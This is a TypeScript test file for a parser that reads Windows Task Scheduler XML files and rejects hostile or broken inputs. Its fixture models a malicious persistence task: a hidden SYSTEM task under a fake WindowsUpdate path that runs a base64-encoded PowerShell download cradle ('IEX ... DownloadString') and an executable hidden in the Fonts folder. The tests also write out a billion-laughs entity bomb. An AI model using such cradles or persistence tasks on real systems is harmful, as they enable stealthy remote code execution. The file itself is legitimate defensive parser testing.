// Task files as Windows writes them (UTF-16LE with a BOM and a UTF-16 declaration) and as tools
// sometimes leave them (UTF-8, with or without BOM), read into the task model; and hostile files
// (entity bombs, deep nesting, truncation, wrong encodings, fuzzed bytes) ending in an error object
// quickly, never an exception.
import { describe, expect, it } from 'vitest';
import {
  actionCommandLine,
  decodeTaskBytes,
  parseXml,
  readTaskXml,
  taskPrincipal,
  type TaskXmlError,
} from './task-xml.js';

const CRADLE = Buffer.from(
  "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/x.ps1')",
  'utf16le',
).toString('base64');

/** A task as `schtasks /create /xml` or the Task Scheduler UI leaves it, with the given parts. */
function taskXml(opts: { declaration?: string; hidden?: boolean; actions?: string } = {}): string {
  const declaration = opts.declaration ?? '<?xml version="1.0" encoding="UTF-16"?>';
  return `${declaration}
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo>
    <Date>2026-11-30T03:14:15</Date>
    <Author>WORKGROUP\\admin</Author>
    <URI>\\Microsoft\\Windows\\WindowsUpdate\\wuauc1t</URI>
  </RegistrationInfo>
  <Triggers>
    <BootTrigger><Enabled>true</Enabled><Delay>PT30S</Delay></BootTrigger>
    <LogonTrigger>
      <Repetition><Interval>PT5M</Interval><StopAtDurationEnd>false</StopAtDurationEnd></Repetition>
      <Enabled>true</Enabled>
      <UserId>S-1-5-21-1-2-3-1001</UserId>
    </LogonTrigger>
    <CalendarTrigger>
      <StartBoundary>2026-11-30T02:00:00</StartBoundary>
      <ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay>
    </CalendarTrigger>
    <TimeTrigger><StartBoundary>2026-12-01T00:00:00</StartBoundary><Enabled>false</Enabled></TimeTrigger>
    <IdleTrigger/>
    <EventTrigger><Subscription>&lt;QueryList&gt;&lt;Query Id="0"&gt;&lt;/Query&gt;&lt;/QueryList&gt;</Subscription></EventTrigger>
    <RegistrationTrigger/>
  </Triggers>
  <Principals>
    <Principal id="Author">
      <UserId>S-1-5-18</UserId>
      <RunLevel>HighestAvailable</RunLevel>
    </Principal>
  </Principals>
  <Settings>
    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>
    <DisallowStartIfOnBatteries>false</DisallowStartIfOnBatteries>
    <StopIfGoingOnBatteries>false</StopIfGoingOnBatteries>
    <ExecutionTimeLimit>PT0S</ExecutionTimeLimit>
    <Hidden>${opts.hidden ?? true}</Hidden>
    <Enabled>true</Enabled>
    <Priority>7</Priority>
  </Settings>
  <Actions Context="Author">
${
  opts.actions ??
  `    <Exec>
      <Command>C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe</Command>
      <Arguments>-nop -w hidden -enc ${CRADLE}</Arguments>
    </Exec>
    <Exec><Command>C:\\Windows\\Fonts\\ttf\\win1logon.exe</Command><Arguments>--config=&quot;c.json&quot; &amp;&#x41;&#66;</Arguments><WorkingDirectory>C:\\Windows\\Fonts\\ttf</WorkingDirectory></Exec>`
}
  </Actions>
</Task>
`;
}

const utf16leBom = (s: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(s, 'utf16le')]);
const utf16beBom = (s: string) => {
  const le = Buffer.from(s, 'utf16le');
  return Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(le).swap16()]);
};

function expectError(result: ReturnType<typeof readTaskXml>, code: TaskXmlError['code']): TaskXmlError {
  expect(result.ok).toBe(false);
  if (result.ok) throw new Error('unreachable');
  expect(result.error.code).toBe(code);
  expect(result.error.message.en).not.toBe('');
  expect(result.error.message['zh-CN']).not.toBe('');
  return result.error;
}

describe('readTaskXml: the forms Windows writes', () => {
  it('reads a UTF-16LE task with BOM: registration, every trigger kind, principal, settings, actions', () => {
    // Windows writes CRLF line ends.
    const result = readTaskXml(utf16leBom(taskXml().replace(/\n/g, '\r\n')));
    if (!result.ok) throw new Error(result.error.message.en);
    expect(result.encoding).toBe('utf-16le');
    expect(result.bom).toBe(true);
    expect(result.warnings).toEqual([]);
    const { task } = result;
    expect(task.version).toBe('1.2');
    expect(task.registration).toEqual({
      uri: '\\Microsoft\\Windows\\WindowsUpdate\\wuauc1t',
      author: 'WORKGROUP\\admin',
      date: '2026-11-30T03:14:15',
    });
    expect(task.triggers.map((t) => t.kind)).toEqual([
      'boot',
      'logon',
      'calendar',
      'time',
      'idle',
      'event',
      'registration',
    ]);
    expect(task.triggers[0]).toMatchObject({ kind: 'boot', delay: 'PT30S', enabled: true });
    expect(task.triggers[1]).toMatchObject({
      repetition: { interval: 'PT5M', stopAtDurationEnd: false },
      userId: 'S-1-5-21-1-2-3-1001',
    });
    expect(task.triggers[2]).toMatchObject({
      schedule: { by: 'day', interval: 1 },
      startBoundary: '2026-11-30T02:00:00',
    });
    expect(task.triggers[3]!.enabled).toBe(false);
    expect(task.triggers[5]!.subscription).toBe('<QueryList><Query Id="0"></Query></QueryList>');
    expect(taskPrincipal(task)).toEqual({ id: 'Author', userId: 'S-1-5-18', runLevel: 'HighestAvailable' });
    expect(task.settings).toMatchObject({
      hidden: true,
      enabled: true,
      executionTimeLimit: 'PT0S',
      disallowStartIfOnBatteries: false,
      stopIfGoingOnBatteries: false,
      priority: 7,
      multipleInstancesPolicy: 'IgnoreNew',
    });
    expect(task.actions).toEqual([
      {
        type: 'exec',
        command: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        arguments: `-nop -w hidden -enc ${CRADLE}`,
      },
      {
        type: 'exec',
        command: 'C:\\Windows\\Fonts\\ttf\\win1logon.exe',
        arguments: '--config="c.json" &AB',
        workingDirectory: 'C:\\Windows\\Fonts\\ttf',
      },
    ]);
    const first = task.actions[0]!;
    if (first.type !== 'exec') throw new Error('unreachable');
    expect(actionCommandLine(first)).toBe(
      `C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden -enc ${CRADLE}`,
    );
  });

  it('reads the same task from UTF-8 with and without BOM, UTF-16BE with BOM and UTF-16LE without BOM', () => {
    const utf8 = taskXml({ declaration: '<?xml version="1.0" encoding="UTF-8"?>' });
    const reference = readTaskXml(utf16leBom(taskXml()));
    for (const [bytes, encoding] of [
      [Buffer.from(utf8, 'utf8'), 'utf-8'],
      [Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(utf8, 'utf8')]), 'utf-8'],
      [Buffer.from(taskXml({ declaration: '' }).trimStart(), 'utf8'), 'utf-8'],
      [utf16beBom(taskXml()), 'utf-16be'],
      [Buffer.from(taskXml(), 'utf16le'), 'utf-16le'],
    ] as const) {
      const result = readTaskXml(bytes);
      if (!result.ok) throw new Error(`${encoding}: ${result.error.message.en}`);
      expect(result.encoding).toBe(encoding);
      expect(result.task).toEqual(reference.ok && reference.task);
    }
  });

  it('reads a ComHandler action, the schema defaults and quoted command paths', () => {
    const xml = taskXml({
      hidden: false,
      actions:
        '<ComHandler><ClassId>{A6BA00FE-40E8-477C-B713-C64A14F21ADF}</ClassId><Data><![CDATA[<x>CDATA & friends</x>]]></Data></ComHandler>' +
        '<Exec><Command>C:\\Program Files\\Vendor\\update.exe</Command></Exec>',
    }).replace(/<Enabled>true<\/Enabled>\s*<Priority>/, '<Priority>');
    const result = readTaskXml(utf16leBom(xml));
    if (!result.ok) throw new Error(result.error.message.en);
    expect(result.task.actions[0]).toEqual({
      type: 'com-handler',
      classId: '{A6BA00FE-40E8-477C-B713-C64A14F21ADF}',
      data: '<x>CDATA & friends</x>',
    });
    const exec = result.task.actions[1]!;
    if (exec.type !== 'exec') throw new Error('unreachable');
    expect(actionCommandLine(exec)).toBe('"C:\\Program Files\\Vendor\\update.exe"');
    expect(result.task.settings.hidden).toBe(false);
    expect(result.task.settings.enabled).toBe(true);
  });

  it('reads an 8-bit file that claims UTF-16 (a re-saved task) with a warning', () => {
    const result = readTaskXml(Buffer.from(taskXml(), 'utf8'));
    if (!result.ok) throw new Error(result.error.message.en);
    expect(result.encoding).toBe('utf-8');
    expect(result.warnings[0]).toMatch(/declares encoding "utf-16"/);
    expect(result.task.actions).toHaveLength(2);
  });

  it('keeps namespace-prefixed elements by local name', () => {
    const parsed = parseXml(
      '<t:Task xmlns:t="urn:x"><t:Actions><t:Exec><t:Command>a.exe</t:Command></t:Exec></t:Actions></t:Task>',
    );
    if (!parsed.ok) throw new Error(parsed.error.message.en);
    expect(parsed.root.name).toBe('Task');
    expect(parsed.root.children[0]!.children[0]!.name).toBe('Exec');
  });
});

describe('readTaskXml: hostile and broken files end in an error object, quickly', () => {
  const quick = (bytes: Uint8Array, code: TaskXmlError['code']) => {
    const t0 = performance.now();
    const error = expectError(readTaskXml(bytes), code);
    expect(performance.now() - t0).toBeLessThan(500);
    return error;
  };

  it('refuses a billion-laughs DOCTYPE without expanding anything', () => {
    const lol = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join(
      '\n',
    );
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE Task [<!ENTITY lol0 "lol">${lol}]>\n<Task><Actions><Exec><Command>&lol9;</Command></Exec></Actions></Task>`;
    quick(utf16leBom(xml), 'doctype');
    quick(Buffer.from(xml), 'doctype');
  });

  it('refuses an undeclared entity (there is no DTD to declare it)', () => {
    quick(Buffer.from('<Task><Actions><Exec><Command>&lol9;</Command></Exec></Actions></Task>'), 'malformed');
    quick(Buffer.from('<Task a="&#xD800;"/>'), 'malformed');
  });

  it('stops 10,000-deep nesting at the depth bound', () => {
    const deep = `<Task>${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}</Task>`;
    const error = quick(utf16leBom(deep), 'too-deep');
    expect(error.offset).toBeGreaterThan(0);
  });

  it('stops a flood of elements and attributes', () => {
    quick(Buffer.from(`<Task>${'<a/>'.repeat(30_000)}</Task>`), 'too-many-nodes');
    const attrs = Array.from({ length: 100 }, (_, i) => `a${i}="x"`).join(' ');
    quick(Buffer.from(`<Task ${attrs}/>`), 'too-many-nodes');
  });

  it('reports a truncated file at every cut point', () => {
    const xml = taskXml();
    for (let cut = 60; cut < xml.length - 10; cut += 97) {
      const result = readTaskXml(utf16leBom(xml.slice(0, cut)));
      expect(result.ok, `cut at ${cut}`).toBe(false);
    }
    // An odd number of UTF-16 bytes: the last character is cut in half.
    quick(utf16leBom(xml).subarray(0, 301), 'encoding');
  });

  it('reports wrong encodings', () => {
    quick(
      Buffer.concat([
        Buffer.from('<?xml version="1.0" encoding="UTF-8"?><Task>'),
        Buffer.from([0xc3, 0x28]),
        Buffer.from('</Task>'),
      ]),
      'encoding',
    );
    // A UTF-16LE BOM in front of UTF-8 bytes decodes to CJK noise (or lone surrogates), not XML.
    const noise = readTaskXml(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(taskXml(), 'utf8')]));
    expect(noise.ok === false && ['encoding', 'malformed'].includes(noise.error.code)).toBe(true);
    quick(Buffer.from('<?xml version="1.0" encoding="EBCDIC-XX"?><Task/>'), 'encoding');
    quick(Buffer.from([0xff, 0xfe, 0, 0, 0x3c, 0, 0, 0]), 'encoding');
  });

  it('reports empty, oversized, non-task and multi-root files', () => {
    quick(new Uint8Array(0), 'empty');
    expect(decodeTaskBytes(Buffer.alloc(100), { maxBytes: 10 })).toMatchObject({
      ok: false,
      error: { code: 'too-large' },
    });
    quick(Buffer.from('<Job><Actions/></Job>'), 'not-a-task');
    quick(Buffer.from('<Task/><Task/>'), 'malformed');
    quick(Buffer.from('garbage <Task/>'), 'malformed');
    quick(Buffer.from('<Task></Job>'), 'malformed');
    quick(Buffer.from('<Task a=b/>'), 'malformed');
  });

  it('never throws on fuzzed task files', () => {
    const base = utf16leBom(taskXml());
    let seed = 0x5eed;
    const rand = (n: number) => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed % n;
    };
    const t0 = performance.now();
    for (let round = 0; round < 400; round++) {
      const bytes = Buffer.from(base);
      for (let k = 0; k < 1 + rand(8); k++) bytes[rand(bytes.length)] = rand(256);
      const cut = rand(4) === 0 ? bytes.subarray(0, rand(bytes.length)) : bytes;
      expect(() => readTaskXml(cut)).not.toThrow();
    }
    expect(performance.now() - t0).toBeLessThan(5_000);
  });
});
